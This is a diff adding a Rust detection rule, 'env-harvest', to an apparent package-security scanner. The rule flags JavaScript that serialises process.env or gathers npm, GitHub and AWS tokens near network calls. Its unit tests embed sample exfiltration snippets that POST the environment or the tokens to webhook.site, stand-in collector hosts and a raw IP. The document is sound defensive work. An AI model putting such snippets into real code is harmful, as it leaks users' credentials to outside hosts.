@@ -1,0 +1,295 @@
+//! `env-harvest`: the whole environment serialised or sent, or many secret-looking variables read,
+//! in a file that talks to the network.
+
+use palisade_core::{Capability, Confidence, Finding, Severity};
+
+use super::sinks;
+use super::{FileRule, RuleInfo};
+use crate::facts::{FileFacts, Value};
+
+pub struct EnvHarvest;
+
+static INFO: RuleInfo = RuleInfo {
+    id: "env-harvest",
+    severity: Severity::High,
+    confidence: Confidence::Medium,
+    capabilities: &[Capability::Env, Capability::Credentials],
+    summary: "Collects the whole process.env or many token-like variables, especially next to a network call",
+    docs: r#"## What it detects
+
+- the whole `process.env` serialised (`JSON.stringify(process.env)`, `Buffer.from(JSON…)`,
+  `querystring.stringify(process.env)`, `new URLSearchParams(process.env)`) or passed to a
+  network call;
+- reads of several credential-looking variables of at least two services: `NPM_TOKEN`,
+  `NODE_AUTH_TOKEN`, `GITHUB_TOKEN`, `GH_TOKEN`, `AWS_ACCESS_KEY_ID`, `AWS_SECRET_ACCESS_KEY`,
+  `*_SECRET*`, `*_TOKEN`, `*_KEY`, `*PASSWORD*` (an SDK reads its own service's secrets; a
+  harvester collects npm, GitHub and cloud tokens together).
+
+Graded by what else the file does:
+- **critical**: the serialised environment, or three or more secrets of two or more services, in a
+  file that sends to a raw IP or an exfiltration service (webhook, request bin, OAST, paste site), or the serialised
+  environment handed directly to a network call;
+- **high**: the serialised environment, or three or more secrets, in a small hand-written file
+  that talks to the network;
+- **moderate**: the serialised environment alone (written to a file, logged), or five or more
+  secrets read.
+
+## Real attacks
+
+- Shai-Hulud (September and November 2025): dumped `process.env` and the tokens it found
+  (`NPM_TOKEN`, `GITHUB_TOKEN`, `AWS_ACCESS_KEY_ID`, …) into a public GitHub repository and a
+  webhook.site URL.
+- nx s1ngularity (August 2025) and thousands of dependency-confusion probes: `JSON.stringify(
+  process.env)` posted to Burp Collaborator/interactsh, Pipedream or a raw IP from a postinstall.
+- The 2022 `discord.dll`-style stealers and countless typosquats that post `process.env` to a
+  Discord or Telegram webhook.
+
+## Known false positives
+
+Passing `{...process.env}` to a child process, reading `NODE_ENV`/`DEBUG`, and config loaders
+that filter `process.env` by prefix are not reported. CI and release tools (semantic-release,
+changesets) read `GITHUB_TOKEN`/`NPM_TOKEN` and call their APIs: they reach high only in small
+files that both read three or more secrets and talk to the network; read the hosts.
+"#,
+};
+
+/// Callees that turn an object into a string or bytes (the environment leaving the process).
+const SERIALIZERS: &[&str] = &[
+    "JSON.stringify",
+    "querystring.stringify",
+    "qs.stringify",
+    "URLSearchParams",
+    "util.inspect",
+    "Buffer.from",
+    "btoa",
+    "encodeURIComponent",
+    "v8.serialize",
+];
+
+const BUNDLE_BYTES: usize = 1_000_000;
+
+impl FileRule for EnvHarvest {
+    fn info(&self) -> &'static RuleInfo {
+        &INFO
+    }
+
+    fn check(&self, file: &FileFacts, out: &mut Vec<Finding>) {
+        let is_env = |v: &Value| matches!(v, Value::Member { path } if path == "process.env");
+        let serialized = file
+            .calls
+            .iter()
+            .find(|c| SERIALIZERS.contains(&sinks::normalize(&c.callee)) && c.args.first().is_some_and(is_env));
+        let sent_directly = file.calls.iter().find(|c| {
+            sinks::is_network(&c.callee)
+                && c.args.iter().any(|a| {
+                    is_env(a) || matches!(a, Value::Object { entries } if entries.iter().any(|(_, v)| is_env(v)))
+                })
+        });
+
+        let mut secrets: Vec<(&str, u32)> = Vec::new();
+        for read in &file.member_reads {
+            if let Some(name) = read.path.strip_prefix("process.env.") {
+                if sinks::is_secret_env_name(name) && !secrets.iter().any(|(n, _)| *n == name) {
+                    secrets.push((name, read.line));
+                }
+            }
+        }
+
+        let exfil = exfil_target(file);
+        let bytes = file.metrics.bytes.max(file.size as usize);
+        let small = bytes < BUNDLE_BYTES && !file.metrics.minified;
+        let network = sinks::has_network(file);
+
+        if let Some(call) = sent_directly {
+            out.push(sinks::finding(
+                &INFO,
+                file,
+                call.line,
+                Severity::Critical,
+                Confidence::High,
+                "Sends the whole process.env (every secret of the environment) over the network",
+                Some(&sinks::call_evidence(file, call)),
+            ));
+            return;
+        }
+        if let Some(call) = serialized {
+            let evidence = sinks::call_evidence(file, call);
+            let (severity, confidence, message) = if let Some(target) = exfil.as_deref() {
+                (
+                    Severity::Critical,
+                    Confidence::High,
+                    format!("Serialises the whole process.env in a file that sends to {target}"),
+                )
+            } else if network && small {
+                (
+                    Severity::High,
+                    Confidence::Medium,
+                    "Serialises the whole process.env in a file that talks to the network".to_string(),
+                )
+            } else {
+                (
+                    Severity::Moderate,
+                    Confidence::Low,
+                    "Serialises the whole process.env".to_string(),
+                )
+            };
+            out.push(sinks::finding(
+                &INFO,
+                file,
+                call.line,
+                severity,
+                confidence,
+                message,
+                Some(&evidence),
+            ));
+            return;
+        }
+        let mut services: Vec<String> = secrets.iter().map(|(name, _)| sinks::secret_service(name)).collect();
+        services.sort();
+        services.dedup();
+        if secrets.len() >= 3 && services.len() >= 2 {
+            let names = secrets.iter().take(6).map(|(n, _)| *n).collect::<Vec<_>>().join(", ");
+            let line = secrets[0].1;
+            let (severity, confidence, message) = if let Some(target) = exfil.as_deref() {
+                (
+                    Severity::Critical,
+                    Confidence::High,
+                    format!(
+                        "Reads {} secret variables ({names}) in a file that sends to {target}",
+                        secrets.len()
+                    ),
+                )
+            } else if network && small {
+                (
+                    Severity::High,
+                    Confidence::Medium,
+                    format!(
+                        "Reads {} secret variables ({names}) in a file that talks to the network",
+                        secrets.len()
+                    ),
+                )
+            } else if secrets.len() >= 5 && services.len() >= 3 {
+                (
+                    Severity::Moderate,
+                    Confidence::Low,
+                    format!("Reads {} secret variables ({names})", secrets.len()),
+                )
+            } else {
+                return;
+            };
+            out.push(sinks::finding(&INFO, file, line, severity, confidence, message, None));
+        }
+    }
+}
+
+/// A raw public IP or an exfiltration service named anywhere in a file that has a network call
+/// (or runs curl/wget). Shared with `exfil-sink` so both agree on what a hostile target is.
+pub fn exfil_target(file: &FileFacts) -> Option<String> {
+    if !sinks::has_network(file) {
+        return None;
+    }
+    for call in file
+        .calls
+        .iter()
+        .filter(|c| sinks::is_network(&c.callee) || sinks::is_exec(&c.callee))
+    {
+        let text = call
+            .args
+            .iter()
+            .filter_map(sinks::value_text)
+            .collect::<Vec<_>>()
+            .join(" ");
+        for host in sinks::call_hosts(call) {
+            if let Some(label) = sinks::exfil_service(&host, &text) {
+                return Some(format!("{label} ({host})"));
+            }
+            if sinks::is_public_ipv4(&host) {
+                return Some(format!("a raw IP address ({host})"));
+            }
+        }
+    }
+    for (text, _, _) in sinks::file_strings(file) {
+        if text.len() > 4096 {
+            continue;
+        }
+        for host in sinks::url_hosts(text) {
+            if let Some(label) = sinks::exfil_service(&host, text) {
+                return Some(format!("{label} ({host})"));
+            }
+            if sinks::is_public_ipv4(&host) {
+                return Some(format!("a raw IP address ({host})"));
+            }
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::facts;
+
+    fn run(source: &str) -> Vec<Finding> {
+        let file = facts::extract("index.js", source.as_bytes(), 0o644);
+        let mut out = Vec::new();
+        EnvHarvest.check(&file, &mut out);
+        out
+    }
+
+    fn worst(source: &str) -> Severity {
+        run(source)
+            .iter()
+            .map(|f| f.severity)
+            .max()
+            .unwrap_or(Severity::Unknown)
+    }
+
+    #[test]
+    fn config_loader_reading_node_env_is_quiet() {
+        let source = "const mode = process.env.NODE_ENV || 'development';\nconst debug = process.env.DEBUG;\nmodule.exports = { mode, debug };";
+        assert!(run(source).is_empty());
+    }
+
+    #[test]
+    fn child_env_spread_is_quiet() {
+        let source = "const { spawn } = require('child_process');\nspawn('node', ['x.js'], { env: { ...process.env, FORCE_COLOR: '1' } });";
+        assert!(run(source).is_empty());
+    }
+
+    #[test]
+    fn env_posted_to_webhook_is_critical() {
+        let source = "const https = require('https');\nconst data = JSON.stringify(process.env);\nconst req = https.request('https://webhook.site/0c3f9d2e-1111-4c1a-9e0e-5b3b2b6f0a11', { method: 'POST' });\nreq.write(data);\nreq.end();";
+        let findings = run(source);
+        assert_eq!(findings.len(), 1, "{findings:?}");
+        assert_eq!(findings[0].severity, Severity::Critical);
+        assert_eq!(findings[0].line, Some(2));
+        assert!(findings[0].message.contains("webhook.site"));
+    }
+
+    #[test]
+    fn env_sent_to_unknown_host_is_high() {
+        let source = "const axios = require('axios');\naxios.post('https://stats.example.invalid/c', { e: Buffer.from(JSON.stringify(process.env)).toString('base64') });\nJSON.stringify(process.env);";
+        assert!(worst(source) >= Severity::High);
+    }
+
+    #[test]
+    fn env_written_to_a_file_is_moderate() {
+        assert_eq!(
+            worst("require('fs').writeFileSync('env.json', JSON.stringify(process.env));"),
+            Severity::Moderate
+        );
+    }
+
+    #[test]
+    fn token_reads_next_to_fetch_are_high_and_alone_quiet() {
+        let sdk = "const c = [process.env.AWS_ACCESS_KEY_ID, process.env.AWS_SECRET_ACCESS_KEY, process.env.AWS_SESSION_TOKEN];\nfetch('https://sts.amazonaws.com/', { method: 'POST', body: c.join() });";
+        assert!(run(sdk).is_empty(), "one service's own secrets");
+        let reads = "const t = [process.env.NPM_TOKEN, process.env.GITHUB_TOKEN, process.env.AWS_SECRET_ACCESS_KEY];";
+        assert!(run(reads).is_empty());
+        let source =
+            format!("{reads}\nfetch('https://collector.example.invalid/t', {{ method: 'POST', body: t.join(',') }});");
+        assert_eq!(worst(&source), Severity::High);
+        let source = format!("{reads}\nfetch('http://45.9.20.1/t', {{ method: 'POST', body: t.join() }});");
+        assert_eq!(worst(&source), Severity::Critical);
+    }
+}
